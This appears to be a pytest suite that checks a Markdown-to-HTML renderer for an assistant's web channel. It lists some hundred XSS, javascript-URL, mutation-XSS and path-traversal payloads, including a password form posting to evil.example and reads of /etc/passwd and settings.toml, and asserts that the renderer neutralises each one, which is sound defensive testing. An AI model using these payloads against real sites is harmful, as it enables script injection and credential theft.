"""Markdown becomes HTML that shows what an editor meant, and nothing that anybody could inject."""

from __future__ import annotations

import re
from collections.abc import Collection, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.channels.web.asking.rendering import to_html

REPOSITORY = Path(__file__).parents[1]

SHOWN = [
    ("Hello **you** and *them*", "<p>Hello <strong>you</strong> and <em>them</em></p>"),
    ("5 < 6 & \"7\" > '2'", "<p>5 &lt; 6 &amp; \"7\" &gt; '2'</p>"),
    ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
    ("3. three\n4. four", '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>'),
    ("one  \ntwo", "<p>one<br>\ntwo</p>"),
    ("`x < y`", "<p><code>x &lt; y</code></p>"),
    ("#### Opening hours", "<p><strong>Opening hours</strong></p>"),
    ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
    (
        "![Map: the *shop*](../media/map.svg)",
        '<p><img src="/media/map.svg" alt="Map: the shop" loading="lazy" decoding="async"></p>',
    ),
    (
        '![A "film" <b>](../media/new%20shop.mp4)',
        '<p><video controls="" preload="metadata" src="/media/new%20shop.mp4" '
        'aria-label="A &quot;film&quot; &lt;b&gt;"></video></p>',
    ),
    (
        "![The bell](../media/bell.MP3)",
        '<p><audio controls="" preload="metadata" src="/media/bell.MP3" aria-label="The bell"></audio></p>',
    ),
    (
        "![개](../media/개.jpg)",
        '<p><img src="/media/%EA%B0%9C.jpg" alt="개" loading="lazy" decoding="async"></p>',
    ),
    (
        "![x](../../media/maps/map.svg)",
        '<p><img src="/media/maps/map.svg" alt="x" loading="lazy" decoding="async"></p>',
    ),
    (
        "[form](../media/form.pdf)",
        '<p><a href="/media/form.pdf" target="_blank" rel="noopener noreferrer">form</a></p>',
    ),
    (
        "[site](https://a.example/?a=1&b=2)",
        '<p><a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">site</a></p>',
    ),
    ("[call](tel:+49123)", '<p><a href="tel:+49123" rel="noopener noreferrer">call</a></p>'),
    (
        "<info@shop.example>",
        '<p><a href="mailto:info@shop.example" rel="noopener noreferrer">info@shop.example</a></p>',
    ),
    ("| a | b |\n|:-:|---|\n| 1 | 2 |", None),
]


@pytest.mark.parametrize(("markdown", "shown"), SHOWN, ids=lambda value: repr(value)[:40])
def test_an_answer_is_shown_as_it_is_meant(markdown: str, shown: str | None) -> None:
    html = to_html(markdown, "de")
    assert html.startswith('<div lang="de">')
    if shown is None:
        assert '<th scope="col">a</th>' in html
        assert "<td>2</td>" in html
    else:
        assert html == f'<div lang="de">{shown}\n</div>'


@pytest.mark.parametrize("language", ["de", "zh-Hant-TW"])
def test_a_screen_reader_is_told_the_language(language: str) -> None:
    assert to_html("x", language).startswith(f'<div lang="{language}">')


@pytest.mark.parametrize("language", ["", 'de"><script>alert(1)</script>', "de onclick=x", "1"])
def test_a_language_that_is_none_injects_nothing(language: str) -> None:
    assert to_html("x", language) == '<div lang="und"><p>x</p>\n</div>'


# --- attacks --------------------------------------------------------------------------------

INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div onclick=alert(1)>x</div>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<x-y onfocus=alert(1) tabindex=0 autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<p id=thread class=bar style='position:fixed'>over everything</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](blob:https://evil.example/1)",
    "[x](ws://localhost/api/speech)",
    "[x](//evil.example)",
    "[x](/api/ask)",
    "[x](api/ask)",
    "[x](?language=de)",
    "[x](#thread)",
    "[x](../media/../api/ask)",
    "[x](../media/%2e%2e/api/ask)",
    "[x](\\\\evil.example\\x)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](https://a.example/%22onmouseover=alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/media/x.png)",
    "![x](http:media/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/png;base64,AAAA)",
    "![x](/media/x.png)",
    "![x](../settings.toml)",
    "![x](../media/../settings.toml)",
    "![x](../media/..%2fsettings.toml)",
    "![x](../media/%2e%2e%2fsettings.toml)",
    "![x](../media/..\\settings.toml)",
    "![x](../media//evil.example/x.png)",
    "![x](../media/)",
    "![x](../media)",
    '!["><script>alert(1)</script>](../media/map.svg)',
    '![x" onerror="alert(1)](../media/map.svg)',
    '![x](../media/map.svg "t\\" onerror=\\"alert(1)")',
    '![x](../media/map.svg"onerror="alert(1))',
    '![x](../media/film.mp4" autoplay onplay=alert(1) x=")',
    '![x](<../media/x.mp4" onplay="alert(1)>)',
    "![[x](javascript:alert(1))](../media/map.svg)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '|x|\n|:-" onclick=alert(1)|\n|y|',
    "1. <script>alert(1)</script>",
    "</div></div><script>alert(1)</script>",
    "<div\n>\n\n<script>\n\nalert(1)\n\n</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\ufeff<script>alert(1)</script>",
    "<script\0>alert(1)</script>",
    "\u2028<img src=x onerror=alert(1)>\u2029",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 1 %>",
    "[" * 500 + "x" + "](javascript:alert(1))" * 500,
    "*" * 5000,
    ">" * 1000 + " x",
    "<" * 5000,
]

PLAIN = ("p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "li")
ALLOWED: dict[str, Collection[str]] = {
    **dict.fromkeys((*PLAIN, "table", "thead", "tbody", "tr", "td"), ()),
    "div": {"lang"},
    "a": {"href", "target", "rel"},
    "img": {"src", "alt", "loading", "decoding"},
    "video": {"src", "controls", "preload", "aria-label"},
    "audio": {"src", "controls", "preload", "aria-label"},
    "ol": {"start"},
    "th": {"scope"},
}


class Elements(HTMLParser):
    """All start tags as a browser would meet them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def faults(html: str) -> Iterator[str]:
    """Whatever in the HTML could load, run, lead or look otherwise than it may."""
    parser = Elements()
    parser.feed(html)
    parser.close()
    if [tag for tag, _ in parser.found].count("div") != 1 or html.count("</div>") != 1:
        yield "it ends the element that holds it"
    for tag, attributes in parser.found:
        if tag not in ALLOWED:
            yield f"<{tag}>"
        yield from (f"<{tag} {name}>" for name in attributes.keys() - set(ALLOWED.get(tag, ())))
        source = attributes.get("src")
        if source is not None and not re.fullmatch(r"/media/[\w%~.-]+(/[\w%~.-]+)*", source):
            yield f"src={source}"
        if source is not None and ".." in source:
            yield f"src={source}"
        target = attributes.get("href")
        if target is not None and not re.match(r"(?i)https?:|mailto:|tel:|/media/(?!\.\.)[^/]", target):
            yield f"href={target}"
        if tag == "a" and target and attributes.get("rel") != "noopener noreferrer":
            yield "a link without rel"


@pytest.mark.parametrize("markdown", INJECTIONS, ids=lambda text: repr(text)[:50])
def test_nothing_that_is_written_can_inject(markdown: str) -> None:
    for text in (
        markdown,
        f"Before {markdown} after",
        f"- {markdown}",
        f"**{markdown}**",
        f"x\n\n{markdown}\n\ny",
    ):
        assert not list(faults(to_html(text, "en")))


def test_the_watchman_of_these_tests_is_awake() -> None:
    for html in (
        '<div lang="en"><script>x</script></div>',
        '<div lang="en"><p onclick="x">x</p></div>',
        '<div lang="en"><img src="//evil.example/x"></div>',
        '<div lang="en"><a href="javascript:x" rel="noopener noreferrer">x</a></div>',
        '<div lang="en"></div><p>x</p></div>',
    ):
        assert list(faults(html)), html


PIECES = st.sampled_from(
    [
        *(
            "<",
            ">",
            '"',
            "'",
            "`",
            "```",
            "[",
            "]",
            "(",
            ")",
            "!",
            "*",
            "_",
            "|",
            "\\",
            "&",
            ";",
            "#",
            "\n",
            "\n\n",
        ),
        *(
            "<script",
            "</script>",
            "<div ",
            "</div>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "onerror=",
            "javascript:",
        ),
        *(
            "../media/",
            "x.mp4",
            "x.svg",
            "https://",
            "data:",
            "%2e%2e/",
            "..",
            "/",
            " ",
            "\0",
            "\u202e",
            "    ",
        ),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=4)), max_size=30).map("".join))
def test_no_text_at_all_can_inject(markdown: str) -> None:
    assert not list(faults(to_html(markdown, "en")))


@pytest.mark.parametrize(
    "path", sorted((REPOSITORY / "knowledge").glob("*/*.md")), ids=lambda path: path.stem
)
def test_no_page_of_the_sample_loses_a_word_of_its_own(path: Path) -> None:
    """Whatever a page says outside of marks and addresses stands in the HTML."""
    markdown = path.read_text(encoding="utf-8")
    html = to_html(markdown, path.parent.name)
    assert not list(faults(html))
    words = re.findall(r"[^\W\d_]{4,}", re.sub(r"\([^)]*\)|<[^>]*>|`[^`]*`", " ", markdown))
    missing = [word for word in set(words) if word not in html]
    assert not missing, missing
